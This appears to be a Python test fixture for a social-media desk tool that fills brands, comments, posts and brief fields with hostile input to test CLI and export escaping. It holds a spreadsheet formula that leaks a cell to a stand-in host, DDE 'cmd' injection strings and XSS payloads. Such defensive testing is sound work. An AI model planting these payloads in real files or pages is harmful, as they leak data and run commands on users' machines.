"""A desk whose every user-editable field holds hostile text, for the CLI and export tests."""

import csv
from datetime import UTC, datetime

from smmdesk.brand.save import write_brief
from smmdesk.calendar import goals
from smmdesk.calendar.posts import create_post
from smmdesk.inbox import triage
from smmdesk.inbox.importer import import_file
from smmdesk.report.outcomes import add_outcome
from smmdesk.store import comments as q
from smmdesk.store.brands import add_channel, create_brand
from smmdesk.store.brief import Audience, load_brief
from tests.hostile import ESCAPES, MARKUP, SAMPLE

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HTML = "<script>alert(1)</script> <img src=x onerror=alert(1)>"
TABLE = "a | b\n# heading `code` *em* [link](javascript:alert(1))"


def build(store, tmp_path) -> dict:
    brand = create_brand(store, f"Acme {SAMPLE}", slug="acme")
    add_channel(store, brand, "Facebook page", "facebook")
    add_channel(store, brand, f"chan {SAMPLE}", "web")
    path = tmp_path / "hostile.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "author", "created_at", "text"])
        writer.writerow(["h1", FORMULA, "2026-11-27T08:30:00Z", f"Awful!! {SAMPLE}"])
        writer.writerow(
            ["h2", f"Mallory {SAMPLE}", "2026-11-27T09:30:00Z", f"Terrible {SAMPLE}\nline 2"]
        )
        writer.writerow(
            ["h3", "+cmd|' /C calc'!A0", "2026-11-27T10:30:00Z", "@SUM(1+1)*cmd|' /C calc'!A0"]
        )
    import_file(store, path, brand, platform="facebook")
    ids = [row[0] for row in store.conn.execute("SELECT id FROM comments ORDER BY id")]
    triage.reply(store, ids[:1], f"-2+3 {SAMPLE}")
    triage.label(store, ids[1:2], add=[SAMPLE])
    triage.assign(store, ids[1:2], SAMPLE)
    q.add_template(store, f"tpl {SAMPLE}", f"Hi {{author}} {SAMPLE}")
    goals.edit_goal(store, brand, "sales", name=f"=sales {SAMPLE} {HTML} {TABLE}")
    post = create_post(
        store,
        brand,
        title=f"{FORMULA} {SAMPLE}",
        body=f"{SAMPLE}\n{HTML}",
        goal="sales",
        channel=f"chan {SAMPLE}",
        when=datetime(2026, 11, 26, 10, tzinfo=UTC),
        status="published",
        campaign=f"@camp\n{ESCAPES} {TABLE}",
        link="https://acme.example/x",
        now=NOW,
    )
    add_outcome(store, post.id, None, {"clicks": "5", "leads": "1"})
    brief = load_brief(store, brand)
    brief.value_proposition = f"{HTML} {TABLE} {SAMPLE}"
    brief.address = f"address {SAMPLE}"
    brief.sign_off = f"— {MARKUP}"
    brief.never_words = [ESCAPES]
    brief.audiences = [Audience(f"aud {SAMPLE}", HTML, TABLE, ESCAPES)]
    write_brief(store, brand, brief)
    return {"brand": brand, "post": post, "comments": ids}
